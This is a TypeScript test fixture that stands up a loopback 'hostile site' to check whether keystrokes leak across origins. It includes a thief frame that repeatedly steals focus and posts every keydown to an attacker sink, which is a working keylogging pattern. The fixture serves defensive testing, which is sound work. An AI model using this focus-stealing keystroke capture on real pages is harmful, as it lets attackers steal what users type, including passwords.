/** The enemy's two origins (one server, two names) and the sink where all it learns arrives. Loopback only. */
import { readFileSync } from "node:fs";
import { createServer, type IncomingMessage, type Server } from "node:http";
import type { AddressInfo } from "node:net";

const spy = readFileSync(new URL("spy.js", import.meta.url), "utf8");

/** A chat that shows whatever is posted, and tells the server all of it. */
const page = `<!doctype html><html><head><meta charset="utf-8"><title>Hostile chat</title>
<script src="/spy.js" data-where="page"></script></head>
<body><h1>Room</h1><div id="messages"></div><form id="form"><textarea id="box" aria-label="Message" placeholder="Message" rows="3" cols="60"></textarea>
<button type="submit">Send</button></form><script>
const list = document.querySelector("#messages"), box = document.querySelector("#box");
const show = (text) => { const line = document.createElement("p"); line.className = "message"; line.textContent = text; list.append(line); };
const send = () => { const text = box.value; box.value = ""; if (text) { fetch("/post", { method: "POST", body: text }); } };
document.querySelector("#form").addEventListener("submit", (event) => { event.preventDefault(); send(); });
box.addEventListener("keydown", (event) => { if (event.key === "Enter" && !event.shiftKey) { event.preventDefault(); send(); } });
let shown = 0;
setInterval(async () => { const all = await (await fetch("/messages")).json(); for (; shown < all.length; shown++) show(all[shown]); }, 200);
</script></body></html>`;

const thief = `<!doctype html><html><head><meta charset="utf-8"><script src="/spy.js" data-where="thief"></script></head><body><input id="thief"><script>
const take = () => { window.focus(); document.querySelector("#thief").focus(); };
setInterval(take, 4); addEventListener("blur", take); take();
// The frame may be gone before the spy delivers.
addEventListener("keydown", ({ key }) => fetch("/sink", { method: "POST", keepalive: true, body: "thief now keydown " + key }), true);
</script></body></html>`;

async function bodyOf(request: IncomingMessage): Promise<string> {
	const chunks: Buffer[] = [];
	for await (const chunk of request as AsyncIterable<Buffer>) chunks.push(chunk);
	return Buffer.concat(chunks).toString("utf8");
}

export class HostileSite {
	readonly #server: Server;
	readonly #seen: string[] = [];
	readonly #messages: string[] = [];

	private constructor() {
		this.#server = createServer(async (request, response) => {
			const body = await bodyOf(request);
			this.#seen.push(`${request.method} ${request.url}\n${JSON.stringify(request.headers)}\n${body}`);
			const reply = (type: string, text: string): void => {
				response.writeHead(200, { "content-type": `${type}; charset=utf-8`, "cache-control": "no-store" });
				response.end(text);
			};
			const { pathname } = new URL(request.url ?? "/", "http://127.0.0.1");
			if (pathname === "/post") this.#messages.push(body);
			if (pathname === "/spy.js") reply("text/javascript", spy);
			else if (pathname === "/thief") reply("text/html", thief);
			else if (pathname === "/blank") reply("text/html", "<!doctype html><body></body>");
			else if (pathname === "/messages") reply("application/json", JSON.stringify(this.#messages));
			else reply("text/html", page);
		});
	}

	static async start(): Promise<HostileSite> {
		const site = new HostileSite();
		await new Promise<void>((resolve) => site.#server.listen(0, "127.0.0.1", resolve));
		return site;
	}

	get origin(): string {
		return `http://127.0.0.1:${(this.#server.address() as AddressInfo).port}`;
	}

	/** The same server under a name that the user did not turn on: another origin, outside every grant. */
	get secondOrigin(): string {
		return this.origin.replace("127.0.0.1", "localhost");
	}

	get messages(): readonly string[] {
		return this.#messages;
	}

	/** A message of somebody who is not at a browser. */
	record(text: string): void {
		this.#messages.push(text);
	}

	/** Everything that ever reached the enemy, as one text. */
	get sink(): string {
		return this.#seen.join("\n");
	}

	/** Keys that the page or the thief heard of since `from` (an index into the sink), in order. */
	keysSince(from: number, where: "page" | "page|thief" = "page|thief"): string {
		const types = "keydown|keypress|keyup|beforeinput|input|textInput";
		const heard = this.sink
			.slice(from)
			.matchAll(new RegExp(`^(?:${where}) (?:event|child|now) (?:${types}) (\\S*)`, "gm"));
		return [...heard].map(([, key]) => key ?? "").join("");
	}

	/** What was typed into the thief's frame since then, each letter once. */
	stolenSince(from: number): string {
		const heard = this.sink.slice(from).matchAll(/^thief now keydown (\S)$/gm);
		return [...heard].map(([, key]) => key ?? "").join("");
	}

	async close(): Promise<void> {
		this.#server.closeAllConnections();
		await new Promise((resolve) => this.#server.close(resolve));
	}
}
